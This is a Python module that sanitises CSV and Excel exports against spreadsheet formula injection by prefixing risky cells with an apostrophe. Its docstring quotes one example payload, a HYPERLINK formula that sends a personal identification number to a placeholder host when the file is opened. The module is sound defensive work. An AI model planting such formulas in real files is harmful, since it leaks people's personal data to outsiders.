"""CSV files for spreadsheets, safe to open (ADR 0009).

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula; a name such as `=HYPERLINK("http://x/?"&A2)`
would then send other cells (a BSN) away when the file is opened. Such a cell gets a
leading apostrophe, which spreadsheets show as text. Plain numbers (`-12,50`) stay numbers.
Every CSV or Excel export goes through `safe_cell`.
"""

import csv
import io
import re
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)*$")

CSV_DELIMITER = ";"  # Dutch spreadsheets use the comma as the decimal separator
CSV_ENCODING = "utf-8-sig"  # with a byte order mark, so spreadsheets read é and ë right


def safe_cell(value) -> object:
    """The value, or as text with a leading apostrophe when a spreadsheet would run it."""
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return value
    if _NUMBER.match(value):
        return value
    return "'" + value


def csv_bytes(header: Iterable, rows: Iterable[Iterable]) -> bytes:
    """A semicolon-separated CSV (UTF-8 with BOM, CRLF) with every cell made safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=CSV_DELIMITER, lineterminator="\r\n")
    writer.writerow([safe_cell(cell) for cell in header])
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return buffer.getvalue().encode(CSV_ENCODING)
